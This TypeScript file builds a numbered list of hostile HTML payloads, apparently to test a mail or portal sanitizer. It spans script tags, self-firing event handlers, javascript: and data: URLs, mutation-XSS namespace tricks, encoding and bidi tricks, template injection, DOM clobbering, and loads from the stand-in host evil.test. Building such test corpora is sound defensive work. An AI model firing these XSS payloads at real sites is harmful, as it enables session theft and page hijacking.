import { fetchers, stylesheets } from './fetching.ts';
import { base64, entities, hexEntities, padded, type Make } from './spellings.ts';

/** A piece of content that would run a script or call somebody, were it not made harmless. */
export interface Payload {
  /** Three digits: stand as text before it wherever it is put, and so show that it was rendered. */
  number: string;
  html: string;
}

/** Where payloads call: the names are told apart by the request. */
const ELSEWHERE = 'https://evil.test';

/** What a payload runs when it can: in the frame of the mail, or in the page around it. */
const runs = ['pwned(1)', 'parent.pwned(1)', 'top.pwned(1)', 'alert(1)', "console.log('pwned')"];

/** Every payload there is, the same ones in the same order each time. */
export function hostilePayloads(): Payload[] {
  let made = 0;
  const run = () => runs[made % runs.length]!;
  const call = () => `${ELSEWHERE}/${made}`;
  const kinds = [scripts, handlers, addresses, namespaces, stylesheets, fetchers, swallowers, encodings, clobberers];
  const payloads: Payload[] = [];
  for (const kind of kinds) {
    for (const make of kind) {
      made += 1;
      payloads.push({ number: String(made).padStart(3, '0'), html: make(run(), call()) });
    }
  }
  return payloads;
}

const scripts: Make[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<SCRIPT>${run}</SCRIPT>`,
  (run) => `<ScRiPt >${run}</sCrIpT >`,
  (run) => `<script\n>${run}</script\t>`,
  (run) => `<script/x>${run}</script>`,
  (run) => `<script/"<a">${run}</script>`,
  (run) => `<script x=">" y>${run}</script>`,
  (run) => `<script>${run}`,
  (run) => `<script>${run}//`,
  (run) => `<<script>${run}//<</script>`,
  (run) => `<scr<script>ipt>${run}</scr</script>ipt>`,
  (run) => `<scr\0ipt>${run}</scr\0ipt>`,
  (run) => `<script type="module">${run}</script>`,
  (run) => `<script type="text/vbscript" language="vbscript">${run}</script>`,
  (run) => `<script defer async>${run}</script>`,
  (run) => `<script>/*<!--*/${run}/*-->*/</script>`,
  (run) => `<!--><script>${run}</script>-->`,
  (run) => `<!--<img src="--><script>${run}</script>">`,
  (run) => `--><script>${run}</script><!--`,
  (run) => `"><script>${run}</script>`,
  (run) => `'><script>${run}</script>`,
  (run) => `</title></style></textarea></noscript><script>${run}</script>`,
  (run) => `<script>setTimeout('${run.replaceAll("'", '"')}')</script>`,
  (run) => `<script src="data:text/javascript,${encodeURIComponent(run)}"></script>`,
  (run) => `<script src="data:;base64,${base64(run)}"></script>`,
  (_, call) => `<script src="${call}.js"></script>`,
  (_, call) => `<script src=//${call.slice(8)}.js></script>`,
  (_, call) => `<script src=/\\${call.slice(8)}.js></script>`,
  (_, call) =>
    `<script type="importmap">{"imports":{"a":"${call}.js"}}</script><script type="module">import "a"</script>`,
  (_, call) => `<script type="speculationrules">{"prefetch":[{"urls":["${call}"]}]}</script>`,
];

/** Tags and the attributes that make their handler fire by itself or by the pointer. */
const firing: [tag: string, event: string][] = [
  ['img src=x', 'onerror'],
  ['img src=x:', 'onerror'],
  ['image src=x', 'onerror'],
  ['svg', 'onload'],
  ['svg width=9 height=9', 'onclick'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['body', 'onhashchange'],
  ['frameset', 'onload'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['a href=# autofocus tabindex=1 id=x', 'onfocus'],
  ['details open', 'ontoggle'],
  ['video src=x', 'onerror'],
  ['video src=x autoplay', 'onloadstart'],
  ['audio src=x', 'onerror'],
  ['video><source src=x', 'onerror'],
  ['track default src=x', 'oncuechange'],
  ['object data=x', 'onerror'],
  ['object type=image/svg+xml', 'onload'],
  ['embed src=x', 'onload'],
  ['iframe src=about:blank', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['style', 'onload'],
  ['marquee', 'onstart'],
  ['marquee loop=1', 'onfinish'],
  ['p', 'onclick'],
  ['p', 'onmouseover'],
  ['div', 'onpointerenter'],
  ['div contenteditable autofocus', 'onfocusin'],
  ['div style="animation:a 1s"', 'onanimationstart'],
  ['div style="transition:color 1s"', 'ontransitionrun'],
  ['div style="overflow:auto;height:9px"', 'onscroll'],
  ['div style="content-visibility:auto"', 'oncontentvisibilityautostatechange'],
  ['button popovertarget=p', 'onbeforetoggle'],
  ['dialog open', 'onclose'],
  ['form', 'onsubmit'],
  ['form', 'onformdata'],
  ['table', 'onwheel'],
  ['td', 'oncopy'],
  ['font', 'onselectstart'],
  ['a href=x', 'onauxclick'],
  ['meter', 'onmousemove'],
  ['isindex type=image src=x', 'onerror'],
  ['xss', 'onclick'],
  ['x-y', 'onmouseenter'],
];

/** Ways to write an attribute that parsers read differently. */
const spellings: ((tag: string, event: string, run: string) => string)[] = [
  (tag, event, run) => `<${tag} ${event}="${run}">`,
  (tag, event, run) => `<${tag}\t\f${event.toUpperCase()}\n=\n'${entities(run)}'>`,
  (tag, event, run) => `<${tag.replace(' ', '/')} /${event}=${run.replaceAll("'", '&apos;')}//`,
];

const handlers: Make[] = firing.flatMap(([tag, event], index) => [
  (run: string) => spellings[index % 3]!(tag, event, run),
  (run: string) => spellings[(index + 1) % 3]!(tag, event, run),
]);

const schemes: Make[] = [
  (run) => `javascript:${run}`,
  (run) => `JaVaScRiPt:${run}`,
  (run) => ` \n javascript:${run}`,
  (run) => `&#1;javascript:${run}`,
  (run) => `java&Tab;script:${run}`,
  (run) => `java&NewLine;script:${run}`,
  (run) => `java\0script:${run}`,
  (run) => `javascript&colon;${run}`,
  (run) => `${entities('javascript:')}${run}`,
  (run) => `${hexEntities('javascript:')}${run}`,
  (run) => `${padded('javascript:')} ${run}`,
  (run) => `javascript://%0a${run}`,
  (run) => `javascript:'<svg onload=${run}>'`,
  (run) => `vbscript:${run}`,
  (run) => `livescript:${run}`,
  (run) => `feed:javascript:${run}`,
  (run) => `view-source:javascript:${run}`,
  (run) => `jar:javascript:${run}!/`,
  (run) => `data:text/html,<script>${run}</script>`,
  (run) => `data:text/html;base64,${base64(`<script>opener.${run}</script>`)}`,
  (run) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run.replaceAll("'", '"')}'/>`,
  (run) => `data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>${run}</script>`,
  () => 'file:///etc/passwd',
  () => 'blob:https://evil.test/0',
];

/** What an address can be put into. */
const carriers: ((address: string) => string)[] = [
  (address) => `<a href="${address}">follow</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<img src="${address}"><map name=m><area href="${address}"></map>`,
  (address) => `<form action="${address}"><button formaction="${address}">go</button></form>`,
  (address) => `<object data="${address}"></object><embed src="${address}">`,
  (address) => `<svg><a xlink:href="${address}"><text y=9>svg</text></a><use href="${address}"/></svg>`,
];

const addresses: Make[] = schemes.flatMap((scheme, index) =>
  [0, index + 1, index + 3].map((offset) => (run: string, call: string) => carriers[offset % 6]!(scheme(run, call))),
);

/** What changes its meaning when it is parsed a second time, or in another namespace. */
const namespaces: Make[] = [
  (run) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  (run) => `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  (run) => `<math></br><style><a title="</style><img src onerror=${run}>"></style></math>`,
  (run) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  (run) => `<svg><foreignObject><iframe srcdoc="<script>parent.${run}</script>"></iframe></foreignObject></svg>`,
  (run) => `<svg><desc><noscript><img title="</noscript><img src=x onerror=${run}>">`,
  (run) => `<svg><title><a id="</title><img src=x onerror=${run}>"></a></title></svg>`,
  (run) => `<svg><style>&lt;img src=x onerror=${run}&gt;</style></svg>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><script href="data:,${encodeURIComponent(run)}"/></svg>`,
  (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  (run) => `<svg><a><animate attributeName=href values="javascript:${run}"/><text y=9>t</text></a></svg>`,
  (run) => `<svg><set attributeName=onmouseover to="${run}"/><rect width=9 height=9 /></svg>`,
  (run) =>
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror='${run.replaceAll("'", '"')}'/></svg>#x"/></svg>`,
  (run) => `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${run}</handler></svg>`,
  (run) => `<math><maction actiontype="statusline#x" xlink:href="javascript:${run}">m</maction></math>`,
  (run) => `<math href="javascript:${run}">m</math>`,
  (run) => `<math><annotation-xml encoding="text/html"><img src=x onerror=${run}></annotation-xml></math>`,
  (run) => `<math><mi><svg><mi><style><img src=x onerror=${run}></style></mi></svg></mi></math>`,
  (run) => `<table><td><svg><p><style><g title="</style><img src=x onerror=${run}>">`,
  (run) => `<select><style></select><img src=x onerror=${run}></style>`,
  (run) => `<p><table><select><mtext><script>${run}</script>`,
  (run) => `<a><svg><a><mglyph><style></a><img src=x onerror=${run}></style>`,
  (run) => `<xmlns:x="http://www.w3.org/1999/xhtml"><x:script>${run}</x:script>`,
  (run) => `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${run}</script></html>`,
  (run) => `<![CDATA[<img src=x onerror=${run}>]]>`,
  (run) => `<svg><![CDATA[><image xlink:href="]]><img src=x onerror=${run}//"></svg>`,
  (run) => `<?php <img src=x onerror=${run}> ?>`,
  (run) => `<!DOCTYPE x [<!ENTITY e "<img src=x onerror=${run}>">]><p>&e;</p>`,
  (run) => `${'<div>'.repeat(600)}<img src=x onerror=${run}>`,
];

/** What keeps a parser from seeing what follows, or makes it see it where it should not. */
const swallowers: Make[] = [
  (run) => `<noscript><img src=x onerror=${run}></noscript>`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  (run) => `<template><img src=x onerror=${run}></template>`,
  (run) => `<template shadowrootmode=open><script>${run}</script></template>`,
  (run) => `<textarea><img title="</textarea><img src=x onerror=${run}>">`,
  (run) => `<title><img title="</title><img src=x onerror=${run}>">`,
  (run) => `<xmp><img title="</xmp><img src=x onerror=${run}>">`,
  (run) => `<noembed><img title="</noembed><img src=x onerror=${run}>">`,
  (run) => `<noframes><img title="</noframes><img src=x onerror=${run}>">`,
  (run) => `<iframe><img title="</iframe><img src=x onerror=${run}>">`,
  (run) => `<plaintext><img src=x onerror=${run}>`,
  (run) => `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
  (run) => `<comment><img src="</comment><img src=x onerror=${run}>">`,
  (run) => `<!--[if gte IE 4]><script>${run}</script><![endif]-->`,
  (run) => `<!--[if !mso]><!--><img src=x onerror=${run}><!--<![endif]-->`,
  (run) => `<!--!><img src=x onerror=${run}>--!>`,
  (run) => `<!-- --!><img src=x onerror=${run}> -->`,
  (run) => `<img src="x" alt="unclosed onerror=${run} <b>`,
  (run) => `<img """><script>${run}</script>">`,
  (run) => `<a href="x"onclick="${run}"title=">">a</a>`,
  (run) => `</body></html><img src=x onerror=${run}>`,
  (run) => `</div></div></iframe><script>${run}</script>`,
  (run) => `<head><img src=x onerror=${run}></head>`,
  (run) => `<slot name="x"><img src=x onerror=${run}></slot>`,
];

/** The same by other letters: what one reader takes for text, another takes for markup. */
const encodings: Make[] = [
  (run) => `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  (run) => `<meta charset="utf-7">+ADw-img src+AD0-x onerror+AD0-${run}+AD4-`,
  (run) => `\u001b$B<script>${run}</script>\u001b(B`,
  (run) => `&lt;script&gt;${run}&lt;/script&gt;`,
  (run) => `&amp;lt;img src=x onerror=${run}&amp;gt;`,
  (run) => `&#60;img src=x onerror=${run}&#62;`,
  (run) => `&#x3c;img src=x onerror=${run}&#x3e;`,
  (run) => `%3Cimg%20src=x%20onerror=${run}%3E`,
  (run) => `\\u003cimg src=x onerror=${run}\\u003e`,
  (run) => `\\x3cimg src=x onerror=${run}\\x3e`,
  (run) => `\uff1cimg src=x onerror=${run}\uff1e`,
  (run) => `\u2039img src=x onerror=${run}\u203a`,
  (run) => `<\u0131mg src=x onerror=${run}><\u017fcript>${run}</\u017fcript>`,
  (run) => `<img\u00a0src=x\u3000onerror=${run}>`,
  (run) => `<img\u2028src=x\u2029onerror=${run}>`,
  (run) => `<im\u200bg src=x on\u200derror=${run}>`,
  (run) => `<img src=x on\0error=${run}>`,
  (run) => `\u202e<img src=x onerror=${run}>\u202c txt.exe`,
  (run) => `\u2066\u202e>${run}=rorreno x=crs gmi<\u2069`,
  (run) => `\ufeff<script>${run}</script>`,
  (run) => `<img src=x onerror=\`${run}\`>`,
  (run) => `<img src=\`x\` onerror=\`${run}\` \`>`,
  (run) => `{{constructor.constructor('${run.replaceAll("'", '"')}')()}}`,
  (run) => `\${${run}} #{${run}} <%= ${run} %>`,
  (run) => `[x](javascript:${run}) ![x](x"onerror="${run}) <javascript:${run}>`,
  (run) => `https://evil.test/"onmouseover="${run}"x="`,
  (run) => `mailto:x@evil.test?body=<img src=x onerror=${run}>`,
  (run) => `*<b onclick=${run}>bold</b>* _<i onmouseover=${run}>i</i>_ ~<s>~ \`<u>\``,
  (run) => `"-${run}-" '-${run}-' \\';${run};//`,
  (run) => `=HYPERLINK("https://evil.test/${run}","sheet")`,
];

/** Names that would take the place of what the portal's own scripts look for. */
const clobbered = [
  'body',
  'head',
  'cookie',
  'location',
  'documentElement',
  'getElementById',
  'querySelector',
  'createElement',
  'fetch',
  'localStorage',
  'defaultView',
  'currentScript',
  'config',
  'root',
  '__proto__',
  'constructor',
  'toString',
  'then',
];

const clobberers: Make[] = [
  ...clobbered.map(
    (name, index) => () =>
      index % 3 === 0
        ? `<img name="${name}" src="cid:x"><form name="${name}"><input name="attributes"></form>`
        : index % 3 === 1
          ? `<a id="${name}" name="${name}" href="https://evil.test/${name}">a</a><a id="${name}">b</a>`
          : `<iframe name="${name}" srcdoc="x"></iframe><object id="${name}"></object><embed name="${name}">`,
  ),
  () => '<form id="x"><input name="parentNode"><input name="nodeName"><input name="removeAttribute"></form>',
  () => '<form><input name="innerHTML"><input name="ownerDocument"><input id="nextSibling"></form>',
];
